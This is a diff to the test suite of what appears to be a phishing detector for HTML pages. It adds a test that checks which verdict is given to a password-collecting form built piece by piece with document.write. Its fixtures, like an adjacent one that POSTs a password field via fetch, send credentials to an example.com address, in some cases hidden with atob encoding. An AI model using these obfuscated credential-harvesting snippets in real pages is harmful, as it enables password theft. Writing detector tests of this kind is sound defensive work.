@@ -295,6 +295,16 @@ suite('a page that asks for a password', () => {
     )
   })
 
+  test('and joins the form from plain pieces is only suspicious', () => {
+    const joined = (action: string): Uint8Array =>
+      html(
+        `var f = '<form action="${action}" method="post">'; f += '<input name="mail" value="' + mail + '" \\/>'; f += '<input type="password" name="p" \\/><\\/form>'; document.write(f)`,
+      )
+    has(joined('https://example.com/post'), 'Html.CredentialForm')
+    assert.ok(!accusations(joined('https://example.com/post')).includes('Html.Phishing'))
+    has(joined(`https://' + atob("${btoa('example.com')}") + '/post`), 'Html.Phishing')
+  })
+
   test('and hides the address', () => {
     has(html(`fetch(atob("${btoa('https://example.com/x')}"),{method:"POST",body:p.value})`, FIELDS), 'Html.Phishing')
   })
